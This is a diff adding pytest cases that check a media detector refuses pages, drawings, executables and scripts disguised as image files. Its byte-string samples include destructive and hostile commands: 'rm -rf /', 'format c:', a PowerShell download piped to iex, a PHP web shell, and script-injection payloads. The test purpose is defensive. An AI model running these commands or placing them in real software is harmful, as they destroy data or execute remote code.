@@ -73,6 +73,54 @@ REFUSED = {
 }
 
 
+BEFORE = {
+    "nothing": b"",
+    "a byte order mark": b"\xef\xbb\xbf",
+    "blank lines": b"\r\n\n \t\n",
+    "a prolog": b'<?xml version="1.0" encoding="UTF-8"?>\n',
+    "a prolog and a comment": b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- \xff\xd8\xff GIF89a glTF v 0 0 0 -->\n',
+}
+TEXTS = {
+    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><path d="M 0 0"/></svg>',
+    "svg with a doctype": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd">\n<svg width="9"></svg>',
+    "html": b"<html><head></head><body><script>alert(1)</script></body></html>",
+    "html in capitals": b"<HTML><BODY>v 0 0 0\nf 1 1 1</BODY></HTML>",
+    "a script alone": b"<script>alert(1)</script>",
+    "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
+}
+PROGRAMS = {
+    "linux": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(80),
+    "windows": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(200),
+    "dos": b"MZ" + bytes(126),
+    "macos": b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(80),
+    "macos, for all processors": b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07" + bytes(80),
+    "java": b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d" + bytes(80),
+    "java archive": zipped("META-INF/MANIFEST.MF"),
+    "wasm": b"\0asm\x01\0\0\0" + bytes(40),
+    "android": b"dex\n035\0" + bytes(80),
+    "shell": b"#!/bin/sh\nexec rm -rf /\n",
+    "shell that looks like a model": b"#!/bin/sh\nv 0 0 0\nf 1 1 1\n",
+    "python": b"#!/usr/bin/env python3\nimport os\n",
+    "batch": b"@echo off\r\nformat c:\r\n",
+    "powershell": b"Invoke-WebRequest https://example.com | iex\n",
+    "php": b"<?php system($_GET['c']); ?>\n",
+    "pdf behind a line": b"\n%PDF-1.7\n1 0 obj\n",
+    "word": zipped("word/document.xml"),
+    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n",
+}
+
+
+@pytest.mark.parametrize("before", BEFORE)
+@pytest.mark.parametrize("name", TEXTS)
+def test_pages_and_drawings_are_refused_whatever_stands_before_them(name: str, before: str) -> None:
+    assert detect(BEFORE[before] + TEXTS[name], "https://fal.media/files/a.png").media is None
+
+
+@pytest.mark.parametrize("name", PROGRAMS)
+def test_programs_and_documents_are_refused(name: str) -> None:
+    assert detect(PROGRAMS[name], "https://fal.media/files/a.png").media is None
+
+
 @pytest.mark.parametrize("name", STORED)
 def test_stored_types(name: str) -> None:
     content, content_type = STORED[name]
